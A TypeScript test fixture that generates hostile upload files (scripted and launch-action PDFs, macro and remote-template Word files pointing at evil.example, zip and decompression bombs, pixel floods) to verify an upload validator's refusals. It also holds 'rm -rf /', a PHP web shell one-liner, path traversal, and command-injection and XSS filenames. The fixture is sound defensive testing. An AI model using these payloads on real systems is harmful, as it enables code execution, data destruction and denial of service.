import { createCipheriv } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';
import sharp from 'sharp';
import type { UploadRefusal } from '#src/cases/papers/upload.ts';
import { chunk, pdf, png, wordTypes, type ZipEntry, zip, zipped } from './sample-files.ts';

/**
 * A file somebody might send to hurt whoever opens it. `expects` is the refusal, or several where either is right;
 * `accepted` comes with why it does no harm.
 */
export type HostileFile = {
  label: string;
  name: string;
  content: Buffer;
  expects: UploadRefusal['kind'] | readonly UploadRefusal['kind'][] | 'accepted';
  harmless?: string;
};

const mebibyte = 1024 * 1024;

/** The same bytes in every run. */
function noise(bytes: number): Buffer {
  return createCipheriv('aes-128-ctr', Buffer.alloc(16), Buffer.alloc(16)).update(Buffer.alloc(bytes));
}

/** A PDF of these objects; the first is the catalog unless another trailer is given. */
export function pdfOf(objects: readonly (string | Buffer)[], trailer = '<< /Root 1 0 R >>'): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  for (const [index, object] of objects.entries()) {
    parts.push(Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n'));
  }
  parts.push(Buffer.from(`trailer\n${trailer}\nstartxref\n0\n%%EOF\n`));
  return Buffer.concat(parts);
}

const catalog = (more: string) => `<< /Type /Catalog /Pages 2 0 R ${more} >>`;
const noPages = '<< /Type /Pages /Kids [] /Count 0 >>';
export const streamOf = (head: string, body: Buffer) =>
  Buffer.concat([Buffer.from(`<< ${head} /Length ${body.length} >>\nstream\n`), body, Buffer.from('\nendstream')]);

/** A PDF whose objects are packed into object streams, as Word and scanners write them. */
async function packedPdf(change: (document: PDFDocument) => void | Promise<void>): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage();
  await change(document);
  return Buffer.from(await document.save({ useObjectStreams: true }));
}

const action = (document: PDFDocument, entries: Record<string, string>) => {
  const dict = document.context.obj({});
  for (const [key, value] of Object.entries(entries)) {
    dict.set(PDFName.of(key), value.startsWith('/') ? PDFName.of(value.slice(1)) : PDFString.of(value));
  }
  document.catalog.set(PDFName.of('OpenAction'), document.context.register(dict));
};

function word(parts: readonly ZipEntry[]): Buffer {
  return zip([['[Content_Types].xml', wordTypes], ['word/document.xml', Buffer.from('<w:document/>')], ...parts]);
}

const refused = (label: string, name: string, content: Buffer, expects: HostileFile['expects']): HostileFile => ({
  label,
  name,
  content,
  expects,
});
const harmless = (label: string, name: string, content: Buffer, why: string): HostileFile => ({
  label,
  name,
  content,
  expects: 'accepted',
  harmless: why,
});

async function pdfs(): Promise<HostileFile[]> {
  const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
  const shadowed = Buffer.concat([
    pdfOf([catalog('/OpenAction 3 0 R'), noPages, script]),
    pdfOf(['<< >>', noPages, '<< >>']),
  ]);
  const secret = await PDFDocument.create();
  secret.addPage();
  secret.encrypt({ userPassword: 'x', ownerPassword: 'y' });
  const locked = await PDFDocument.create();
  locked.addPage();
  locked.encrypt({ ownerPassword: 'y' });
  const many = await PDFDocument.create();
  for (let page = 0; page < 201; page += 1) many.addPage([50, 50]);
  const whole = await packedPdf(() => {});
  const zeros = deflateSync(Buffer.alloc(200 * mebibyte));
  const hex = Buffer.from('3 0 << /S /JavaScript /JS (x) >>').toString('hex');
  return [
    refused('JavaScript when opened', 'a.pdf', pdfOf([catalog('/OpenAction 3 0 R'), noPages, script]), 'pdf-script'),
    refused(
      'JavaScript in the list of names',
      'a.pdf',
      pdfOf([catalog('/Names << /JavaScript << /Names [(a) 3 0 R] >> >>'), noPages, script]),
      'pdf-script',
    ),
    refused(
      'JavaScript in an object stream',
      'a.pdf',
      await packedPdf((d) => d.addJavaScript('a', 'app.alert(1)')),
      'pdf-script',
    ),
    refused(
      'JavaScript packed, by its entry alone',
      'a.pdf',
      await packedPdf((d) => action(d, { S: '/Rendition', JS: 'app.alert(1)' })),
      'pdf-script',
    ),
    refused(
      'JavaScript spelled with signs',
      'a.pdf',
      pdfOf([catalog('/OpenAction << /S /J#61vaScr#69pt /J#53 (x) >>'), noPages]),
      'pdf-script',
    ),
    refused(
      'JavaScript in a field that is left',
      'a.pdf',
      pdfOf([catalog('/AcroForm << /Fields [3 0 R] >>'), noPages, `<< /FT /Tx /AA << /Bl ${script} >> >>`]),
      'pdf-script',
    ),
    refused('JavaScript in an object another one hides', 'a.pdf', shadowed, 'pdf-script'),
    refused(
      'JavaScript in an object stream written as digits',
      'a.pdf',
      pdfOf([
        catalog(''),
        noPages,
        streamOf('/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode', Buffer.from(`${hex}>`)),
      ]),
      ['pdf-script', 'damaged'],
    ),
    refused(
      'JavaScript after the end',
      'a.pdf',
      Buffer.concat([pdf, Buffer.from(`9 0 obj\n${script}\nendobj\n%%EOF`)]),
      'pdf-script',
    ),
    refused(
      'starts a program',
      'a.pdf',
      pdfOf([catalog('/OpenAction << /S /Launch /F (cmd.exe) >>'), noPages]),
      'pdf-launch',
    ),
    refused(
      'starts a program, packed',
      'a.pdf',
      await packedPdf((d) => action(d, { S: '/Launch', F: 'cmd.exe' })),
      'pdf-launch',
    ),
    refused(
      'a file attached',
      'a.pdf',
      await packedPdf(
        async (d) => void (await d.attach(Buffer.from('MZ'), 'a.exe', { mimeType: 'application/octet-stream' })),
      ),
      'pdf-attachment',
    ),
    refused(
      'a file attached to a note',
      'a.pdf',
      pdfOf([catalog(''), noPages, '<< /Type /Filespec /F (a) /EF << /F 4 0 R >> >>', streamOf('', Buffer.from('MZ'))]),
      'pdf-attachment',
    ),
    refused('film and flash', 'a.pdf', pdfOf([catalog(''), noPages, '<< /Subtype /RichMedia >>']), 'pdf-attachment'),
    refused(
      'an XFA form',
      'a.pdf',
      pdfOf([catalog('/AcroForm << /XFA [(template) 3 0 R] >>'), noPages, streamOf('', Buffer.from('<xdp/>'))]),
      'pdf-xfa',
    ),
    refused(
      'an XFA form, packed',
      'a.pdf',
      await packedPdf((d) => void d.catalog.set(PDFName.of('AcroForm'), d.context.obj({ XFA: [], Fields: [] }))),
      'pdf-xfa',
    ),
    refused('a password to open', 'a.pdf', Buffer.from(await secret.save()), 'pdf-encrypted'),
    refused('a password to change', 'a.pdf', Buffer.from(await locked.save()), 'pdf-encrypted'),
    refused(
      'says it is encrypted',
      'a.pdf',
      pdfOf([catalog(''), noPages, '<< /Filter /Standard >>'], '<< /Root 1 0 R /Encrypt 3 0 R >>'),
      'pdf-encrypted',
    ),
    refused(
      'an object stream of 200 MB',
      'a.pdf',
      pdfOf([catalog(''), noPages, streamOf('/Type /ObjStm /N 1 /First 10 /Filter /FlateDecode', zeros)]),
      'too-much-inside',
    ),
    refused(
      'a list of objects of 200 MB',
      'a.pdf',
      pdfOf([catalog(''), noPages, streamOf('/Type /XRef /W [1 2 2] /Size 9 /Filter /FlateDecode', zeros)]),
      'too-much-inside',
    ),
    refused('400,000 objects', 'a.pdf', pdfOf([catalog(''), noPages, ...Array.from({ length: 400_000 }, () => '0')]), [
      'too-much-inside',
      'not-checkable',
    ]),
    refused('201 pages', 'a.pdf', Buffer.from(await many.save()), 'pdf-too-many-pages'),
    refused('pages that hold themselves', 'a.pdf', pdfOf([catalog(''), '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']), [
      'damaged',
      'not-checkable',
    ]),
    harmless(
      'a hundred thousand brackets',
      'a.pdf',
      pdfOf([catalog(''), noPages, '['.repeat(100_000)]),
      'what cannot be read as an object is nothing',
    ),
    refused('cut off', 'a.pdf', whole.subarray(0, Math.floor(whole.length / 2)), 'damaged'),
    harmless(
      'nine megabytes between its objects',
      'a.pdf',
      Buffer.concat([pdf, noise(9 * mebibyte), pdf]),
      'what is no object is not read',
    ),
    refused('a first line and nothing else', 'a.pdf', Buffer.from('%PDF-1.7\n'), 'damaged'),
    refused('a PDF that is a ZIP', 'a.pdf', Buffer.concat([pdf, zipped]), 'two-in-one'),
    refused(
      'a page of HTML before the PDF',
      'a.pdf',
      Buffer.concat([Buffer.from('<html><script>alert(1)</script>'), pdf]),
      'type-not-allowed',
    ),
    refused('a program before the PDF', 'a.pdf', Buffer.concat([Buffer.from('MZ\x90\0'), pdf]), 'type-not-allowed'),
    refused('a PDF that is called a program', 'a.pdf.exe', pdf, 'type-mismatch'),
    refused('a PDF that is called a photo', 'a.jpg', pdf, 'type-mismatch'),
    refused('eleven megabytes', 'a.pdf', Buffer.concat([pdf, Buffer.alloc(11 * mebibyte, 32)]), 'too-large'),
  ];
}

function documents(): HostileFile[] {
  const macro = Buffer.from(
    wordTypes
      .toString()
      .replace('openxmlformats-officedocument.wordprocessingml.document.main', 'ms-word.document.macroEnabled.main'),
  );
  const relation = (type: string, target: string) =>
    Buffer.from(
      `<Relationships><Relationship Id="r" Type="http://x/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
    );
  const zeros = Buffer.alloc(120 * mebibyte, 32);
  const overlapping = word([['word/a.xml', Buffer.alloc(2 * mebibyte, 32), { deflate: true }]]);
  const old = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(2_000)]);
  return [
    refused(
      'a Word document with macros',
      'a.docx',
      zip([
        ['[Content_Types].xml', macro],
        ['word/document.xml', Buffer.from('<w/>')],
      ]),
      ['docx-active', 'type-not-allowed'],
    ),
    refused(
      'a Word document with macros, by its name',
      'a.docm',
      word([['word/vbaProject.bin', old]]),
      'type-mismatch',
    ),
    refused('macros under the name of none', 'a.docx', word([['word/vbaProject.bin', old]]), 'docx-active'),
    refused('an object inside', 'a.docx', word([['word/embeddings/oleObject1.bin', old]]), 'docx-active'),
    refused('a control inside', 'a.docx', word([['word/activeX/activeX1.xml', Buffer.from('<ax/>')]]), 'docx-active'),
    refused('a program inside', 'a.docx', word([['word/media/a.exe', Buffer.from('MZ')]]), 'docx-active'),
    refused(
      'a template from elsewhere',
      'a.docx',
      word([['word/_rels/settings.xml.rels', relation('attachedTemplate', 'https://evil.example/a.dotm')]]),
      'docx-active',
    ),
    refused(
      'an object from elsewhere',
      'a.docx',
      word([['word/_rels/document.xml.rels', relation('oleObject', '\\\\evil.example\\a')]]),
      'docx-active',
    ),
    refused(
      'a billion laughs',
      'a.docx',
      word([['word/styles.xml', Buffer.from('<!DOCTYPE a [<!ENTITY b "x"><!ENTITY c "&b;&b;">]><a>&c;</a>')]]),
      'docx-active',
    ),
    refused(
      'a part in another alphabet',
      'a.docx',
      word([['word/styles.xml', Buffer.from('\ufeff<!DOCTYPE a>', 'utf16le')]]),
      'docx-active',
    ),
    refused('a bomb of 120 MB', 'a.docx', word([['word/a.xml', zeros, { deflate: true }]]), 'too-much-inside'),
    refused(
      'a bomb in many parts',
      'a.docx',
      word(
        Array.from(
          { length: 60 },
          (_, i): ZipEntry => [`word/${i}.xml`, zeros.subarray(0, 2 * mebibyte), { deflate: true }],
        ),
      ),
      'too-much-inside',
    ),
    refused('one part under a thousand names', 'a.docx', repeatedList(overlapping, 1_000), [
      'too-much-inside',
      'damaged',
    ]),
    refused(
      'four thousand parts',
      'a.docx',
      word(Array.from({ length: 4_000 }, (_, i): ZipEntry => [`word/${i}.txt`, Buffer.alloc(0)])),
      'too-much-inside',
    ),
    refused('a part that leaves its folder', 'a.docx', word([['../../etc/cron.d/a', Buffer.from('x')]]), 'damaged'),
    refused('two parts of one name', 'a.docx', word([['word/document.xml', Buffer.from('<w/>')]]), 'damaged'),
    refused('an encrypted part', 'a.docx', word([['word/a.xml', Buffer.from('x'), { flags: 1 }]]), 'damaged'),
    refused(
      'a cut off document',
      'a.docx',
      word([['word/media/a.png', Buffer.alloc(9_000)]]).subarray(0, 8_000),
      'damaged',
    ),
    refused('a document of old Word', 'a.doc', old, 'old-word'),
    refused('old Word under a new name', 'a.docx', old, 'old-word'),
    refused('a ZIP called a document', 'a.docx', zipped, 'type-not-allowed'),
  ];
}

/** The same list of parts again and again: every name points at the same bytes. */
function repeatedList(whole: Buffer, times: number): Buffer {
  const end = whole.length - 22;
  const at = whole.readUInt32LE(end + 16);
  const entries = whole.subarray(at, end);
  const last = entries.subarray(entries.lastIndexOf(Buffer.from('PK\u0001\u0002')));
  const tail = Buffer.from(whole.subarray(end));
  tail.writeUInt16LE(3 + times, 8);
  tail.writeUInt16LE(3 + times, 10);
  const copies = Array.from({ length: times }, (_, i) => {
    const copy = Buffer.from(last);
    copy.write(String(i).padStart(4, '0'), 46, 'latin1');
    return copy;
  });
  return Buffer.concat([whole.subarray(0, at), entries, ...copies, tail]);
}

async function pictures(): Promise<HostileFile[]> {
  const head = (width: number, height: number, depth = 8, colour = 2, interlaced = 0) => {
    const data = Buffer.alloc(13);
    data.writeUInt32BE(width, 0);
    data.writeUInt32BE(height, 4);
    data.set([depth, colour, 0, 0, interlaced], 8);
    return chunk('IHDR', data);
  };
  const start = Buffer.from('89504e470d0a1a0a', 'hex');
  const picture = (first: Buffer, data: Buffer, ...more: Buffer[]) =>
    Buffer.concat([start, first, ...more, chunk('IDAT', data), chunk('IEND', Buffer.alloc(0))]);
  const photo = await sharp({ create: { width: 600, height: 400, channels: 3, background: '#557' } })
    .jpeg()
    .toBuffer();
  const vast = Buffer.from(photo);
  const frame = vast.indexOf(Buffer.from('ffc0', 'hex'));
  vast.writeUInt16BE(50_000, frame + 5);
  vast.writeUInt16BE(50_000, frame + 7);
  const noted = Buffer.concat([
    photo.subarray(0, 2),
    Buffer.from('fffe', 'hex'),
    Buffer.from([0, 40]),
    Buffer.from('<script>alert(document.cookie)</script>'.slice(0, 38)),
    photo.subarray(2),
  ]);
  const heic = Buffer.concat([
    Buffer.from('000000186674797068656963000000006d69663168656963', 'hex'),
    Buffer.alloc(500),
  ]);
  const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
  return [
    refused(
      'a PNG of 50,000 × 50,000',
      'a.png',
      picture(head(50_000, 50_000), deflateSync(Buffer.alloc(1_000))),
      'too-many-pixels',
    ),
    refused(
      'a PNG of two billion pixels a side',
      'a.png',
      picture(head(0x7fffffff, 0x7fffffff), deflateSync(Buffer.alloc(9))),
      ['too-many-pixels', 'damaged'],
    ),
    refused('a PNG of one line a million wide', 'a.png', picture(head(100_000_000, 1), deflateSync(Buffer.alloc(9))), [
      'too-many-pixels',
      'damaged',
    ]),
    refused('a JPEG of 50,000 × 50,000', 'a.jpg', vast, 'too-many-pixels'),
    refused(
      '400 million pixels in 50 kB',
      'a.png',
      picture(head(20_000, 20_000, 1, 0), deflateSync(Buffer.alloc(20_000 * 2_501))),
      'too-many-pixels',
    ),
    refused(
      'passes of 16 bits over 40 million pixels',
      'a.png',
      picture(head(8_000, 5_000, 16, 6, 1), deflateSync(Buffer.alloc(99))),
      'too-many-pixels',
    ),
    refused('a PNG without pixels', 'a.png', picture(head(0, 0), deflateSync(Buffer.alloc(1))), 'damaged'),
    refused('a JPEG cut off', 'a.jpg', photo.subarray(0, photo.length - 400), 'damaged'),
    refused('a PNG cut off', 'a.png', png.subarray(0, 45), 'damaged'),
    refused('three bytes of a JPEG', 'a.jpg', Buffer.from('ffd8ffe0', 'hex'), ['damaged', 'type-not-allowed']),
    refused(
      'a PNG with other bytes inside',
      'a.png',
      picture(head(100, 100), Buffer.from('not deflated at all')),
      'damaged',
    ),
    refused('a photo of an iPhone', 'IMG_1.HEIC', heic, 'heic'),
    refused('a photo of an iPhone called JPG', 'IMG_1.jpg', heic, 'heic'),
    refused('an SVG with a script', 'a.svg', svg, 'type-not-allowed'),
    refused('an SVG called PNG', 'a.png', svg, 'type-not-allowed'),
    refused('a GIF called JPG', 'a.jpg', Buffer.concat([Buffer.from('GIF89a'), Buffer.alloc(300)]), 'type-not-allowed'),
    refused('a JPEG called PNG', 'a.png', photo, 'type-mismatch'),
    harmless('a JPEG that is a ZIP too', 'a.jpg', Buffer.concat([photo, zipped]), 'only its pixels are kept'),
    harmless('a JPEG with a script in a note', 'a.jpg', noted, 'only its pixels are kept'),
    harmless(
      'a PNG with 100 MB packed in a note',
      'a.png',
      Buffer.concat([
        png.subarray(0, 33),
        chunk('zTXt', Buffer.concat([Buffer.from('a\0\0'), deflateSync(Buffer.alloc(100 * mebibyte))])),
        png.subarray(33),
      ]),
      'the note is not unpacked, only the pixels are kept',
    ),
    harmless(
      'a PNG with a program behind its end',
      'a.png',
      Buffer.concat([png, Buffer.from('MZ'), Buffer.alloc(2_000)]),
      'only its pixels are kept',
    ),
  ];
}

function others(): HostileFile[] {
  const page = Buffer.from('<!doctype html><script>fetch("/can-bo")</script>');
  return [
    refused('nothing', 'a.pdf', Buffer.alloc(0), 'empty'),
    refused('one byte', 'a.pdf', Buffer.from([0]), 'type-not-allowed'),
    refused('a program', 'a.exe', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(1_000)]), 'type-not-allowed'),
    refused(
      'a program called PDF',
      'a.pdf',
      Buffer.concat([Buffer.from('MZ'), Buffer.alloc(1_000)]),
      'type-not-allowed',
    ),
    refused('a page called PDF', 'a.pdf', page, 'type-not-allowed'),
    refused('a page called photo', 'a.jpg', page, 'type-not-allowed'),
    refused('commands', 'a.sh', Buffer.from('#!/bin/sh\nrm -rf /\n'), 'type-not-allowed'),
    refused('PHP', 'a.php', Buffer.from('<?php system($_GET["a"]); ?>'), 'type-not-allowed'),
    refused(
      'noise',
      'a.pdf',
      Buffer.from(Array.from({ length: 5_000 }, (_, i) => (i * 7919 + 13) % 251)),
      'type-not-allowed',
    ),
    harmless('a name that climbs', '../../../etc/passwd.pdf', pdf, 'the name is only shown, and loses its path'),
    harmless('a name of Windows', 'C:\\Windows\\System32\\a.pdf', pdf, 'the name is only shown, and loses its path'),
    harmless('a name that reads backwards', 'anh\u202efdp.pdf', pdf, 'what cannot be seen is taken out of the name'),
    harmless('a name of 5,000 letters', `${'ă'.repeat(5_000)}.pdf`, pdf, 'the name is cut'),
    harmless('a name that is a command', '$(reboot);`id`.pdf', pdf, 'the name never reaches a shell or a file'),
    harmless('a name that is a tag', '<img src=x onerror=alert(1)>.pdf', pdf, 'the name is escaped where it is shown'),
  ];
}

/** All of them, made anew in each run. */
export async function hostileFiles(): Promise<HostileFile[]> {
  return [...(await pdfs()), ...documents(), ...(await pictures()), ...others()];
}
